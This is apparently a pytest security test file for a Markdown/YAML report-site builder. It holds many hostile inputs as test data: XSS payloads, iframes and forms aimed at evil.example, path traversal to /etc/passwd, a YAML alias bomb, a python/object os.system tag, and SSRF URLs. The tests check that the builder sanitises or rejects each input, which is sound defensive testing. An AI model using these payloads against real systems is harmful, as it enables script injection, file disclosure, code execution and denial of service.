"""Hostile input: each case is sanitised away or stopped with a specific, located error."""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from klantspiegel.build_options import BuildOptions
from klantspiegel.fetch import GuardedFetcher, OutsideFetchError
from klantspiegel.load import load_portfolio
from klantspiegel.pipeline import build

FINDING = "postbedrijf/2026/findings/centrale-lijn.md"
AUDIT = "postbedrijf/2026/audit.yaml"
TINY_PNG = base64.b64decode(  # a valid 1x1 PNG: the image check refuses a bare signature
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)


@dataclass(frozen=True)
class Case:
    name: str
    body: str = ""  # Markdown appended to the finding's text
    absent: tuple[str, ...] = ()  # must not appear in the finding page (sanitised)
    present: tuple[str, ...] = ()  # must appear, literally
    error: str = ""  # or: the build stops with this message
    files: dict[str, bytes | str] = field(default_factory=dict)  # files to write first


SANITISED = [
    Case("script tag", "<script>alert('x')</script>", absent=("<script", "alert('x')")),
    Case(
        "event handler on img",
        '<img src="photo.png" onerror="alert(1)">',
        files={"postbedrijf/2026/findings/photo.png": TINY_PNG},
        absent=("onerror", "alert"),
        present=('src="media/photo-',),
    ),
    Case("event handler on div", '<div onmouseover="steal()">hover</div>', absent=("onmouseover",)),
    Case("javascript link in Markdown", "[click](javascript:alert(1))", absent=("javascript:",)),
    Case("javascript link in HTML", '<a href="javascript:alert(1)">x</a>', absent=("javascript:",)),
    Case("vbscript link", '<a href="vbscript:msgbox(1)">x</a>', absent=("vbscript:",)),
    Case("data URL link", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', absent=("data:",)),
    Case("iframe", '<iframe src="https://evil.example/"></iframe>', absent=("<iframe", "evil")),
    Case(
        "form",
        '<form action="https://evil.example/"><input name="pin"></form>',
        absent=("<form", "<input", "evil"),
    ),
    Case("style attribute", '<p style="color:red">x</p>', absent=("style=",)),
    Case(
        "css url() to an outside file",
        '<p style="background:url(file:///etc/passwd)">x</p>',
        absent=("style=", "/etc/passwd"),
    ),
    Case("style element", "<style>body{display:none}</style>", absent=("display:none",)),
    Case(
        "inline svg with script",
        "<svg><script>alert(1)</script></svg>",
        absent=("<svg><script", "alert(1)"),
    ),
    Case(
        "object and embed",
        '<object data="x.swf"></object><embed src="y.swf">',
        absent=("<object", "<embed"),
    ),
    Case(
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        absent=("refresh", "evil"),
    ),
    Case("base element", '<base href="https://evil.example/">', absent=("<base", "evil")),
    Case(
        "stylesheet link",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        absent=("evil",),
    ),
    Case(
        "math with script",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        absent=("<script", "<math"),
    ),
    Case("jinja expression", "Total {{ 7*7 }} items", present=("{{ 7*7 }}",), absent=("49",)),
    Case(
        "jinja statement",
        "{% for x in range(3) %}loop{% endfor %}",
        present=("{% for x in range(3) %}",),
    ),
    Case("html comment", "<!-- secret note -->visible", absent=("secret note",)),
]

REJECTED = [
    Case("file: image", "![x](file:///etc/passwd)", error="is not a file in the portfolio"),
    Case("../ image", "![x](../../../../../../etc/passwd)", error="is outside the portfolio"),
    Case("http image", "![x](http://evil.example/x.png)", error="is not a file in the portfolio"),
    Case(
        "http image in raw HTML",
        '<img src="https://evil.example/x.png">',
        error="is not a file in the portfolio",
    ),
    Case(
        "data: image",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        error="is not a file in the portfolio",
    ),
    Case(
        "svg image with script",
        "![logo](logo.svg)",
        files={
            "postbedrijf/2026/findings/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        },
        error="contains script",
    ),
    Case(
        "link outside the portfolio",
        "[passwords](../../../../../../etc/passwd)",
        error="points outside the portfolio",
    ),
    Case("file: link", "[passwords](file:///etc/passwd)", error="points outside the portfolio"),
    Case("pathological brackets", "[" * 6000 + "x" + "]" * 6000, error="to render"),
    Case(
        "deeply nested list",
        "\n".join("    " * i + "- x" for i in range(400)),
        error="simplify the Markdown",
    ),  # too deep or too slow, whichever comes first
]


@pytest.mark.parametrize("case", SANITISED, ids=lambda c: c.name)
def test_hostile_markdown_is_sanitised(case, small_portfolio, tmp_path):
    page = built_finding_page(case, small_portfolio, tmp_path)
    for text in case.absent:
        assert text not in page, text
    for text in case.present:
        assert text in page, text


@pytest.mark.parametrize("case", REJECTED, ids=lambda c: c.name)
def test_hostile_references_are_located_errors(case, small_portfolio):
    write_case(case, small_portfolio)
    problem = only_error(small_portfolio.root)
    assert case.error in problem.message
    assert problem.path.name == "centrale-lijn.md"
    assert problem.line is not None and problem.line >= 18  # in the body, not the front matter


def test_a_jinja_expression_in_front_matter_is_shown_not_run(small_portfolio, tmp_path):
    path = small_portfolio.root / FINDING
    path.write_text(
        path.read_text().replace(
            "title: Finding centrale-lijn", 'title: "{{ config.consultancy }} <b>x</b>"'
        )
    )
    page = built_finding_page(Case("front matter"), small_portfolio, tmp_path)
    assert "{{ config.consultancy }} &lt;b&gt;x&lt;/b&gt;" in page


YAML_CASES = {
    "alias bomb": (
        "lol: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']\n"
        "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        "d: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n",
        "aliases",
    ),
    "merge key": ("base: &b {title: x}\nother:\n  <<: *b\n", "aliases"),
    "deep nesting": ("title: " + "[" * 200 + "]" * 200 + "\n", "nested deeper"),
    "too many values": ("title: [" + ",".join(["1"] * 25_000) + "]\n", "more than"),
    "python object": ("title: !!python/object/apply:os.system ['echo owned']\n", "invalid YAML"),
    "NUL byte": ("title: a\x00b\n", "invalid YAML"),
    "unknown tag": ("title: !secret x\n", "invalid YAML"),
}


@pytest.mark.parametrize("name", YAML_CASES)
def test_hostile_yaml_is_a_located_error(name, small_portfolio):
    text, message = YAML_CASES[name]
    (small_portfolio.root / AUDIT).write_text(text)
    problem = only_error(small_portfolio.root)
    assert message in problem.message
    assert problem.path.name == "audit.yaml"


def test_a_50_mb_file_is_refused_without_reading_it(small_portfolio):
    with (small_portfolio.root / FINDING).open("ab") as handle:
        handle.truncate(50 * 1024 * 1024)
    problem = only_error(small_portfolio.root)
    assert "over the limit of 1,000,000 bytes" in problem.message


def test_the_size_limit_is_configurable(small_portfolio):
    small_portfolio.write("portfolio.yaml", "consultancy: Test\nmax_file_bytes: 300\n")
    problems = load_portfolio(small_portfolio.root)[1]
    assert any("over the limit of 300 bytes" in p.message for p in problems)


def test_invalid_utf8_is_refused(small_portfolio):
    (small_portfolio.root / AUDIT).write_bytes(b"title: caf\xc3\x28\n")
    assert "not valid UTF-8" in only_error(small_portfolio.root).message


def test_the_pdf_fetcher_serves_only_portfolio_and_theme_files(tmp_path):
    inside = tmp_path / "portfolio"
    inside.mkdir()
    (inside / "logo.png").write_bytes(b"png")
    fetcher = GuardedFetcher([inside])
    assert fetcher.fetch((inside / "logo.png").as_uri()).read() == b"png"
    for url in (
        "file:///etc/passwd",
        (inside / "../../etc/passwd").as_uri(),
        "http://127.0.0.1/x.png",
        "https://evil.example/x.css",
        "data:text/plain,hi",
        "file://otherhost/etc/passwd",
    ):
        with pytest.raises(OutsideFetchError):
            fetcher.fetch(url)


# --- helpers ----------------------------------------------------------------------------------


def write_case(case: Case, writer) -> None:
    for relative, content in case.files.items():
        target = writer.root / relative
        target.write_bytes(content.encode() if isinstance(content, str) else content)
    path = writer.root / FINDING
    path.write_text(path.read_text() + "\n" + case.body + "\n")


def only_error(root: Path):
    portfolio, problems = load_portfolio(root)
    errors = [p for p in problems if p.severity == "error"]
    assert portfolio is None and len(errors) == 1, [p.format() for p in errors]
    return errors[0]


def built_finding_page(case: Case, writer, tmp_path: Path) -> str:
    write_case(case, writer)
    build(writer.root, tmp_path / "output", BuildOptions(pdf=False))
    page = (tmp_path / "output/site/postbedrijf/findings/centrale-lijn.html").read_text()
    return page[page.index("<main") : page.index("</main>")]  # the page's own head has scripts


def test_an_image_inside_the_portfolio_is_copied_next_to_its_page(small_portfolio, tmp_path):
    case = SANITISED[1]
    page = built_finding_page(case, small_portfolio, tmp_path)
    media = list((tmp_path / "output/site/postbedrijf/findings/media").glob("photo-*.png"))
    assert len(media) == 1 and f'src="media/{media[0].name}"' in page
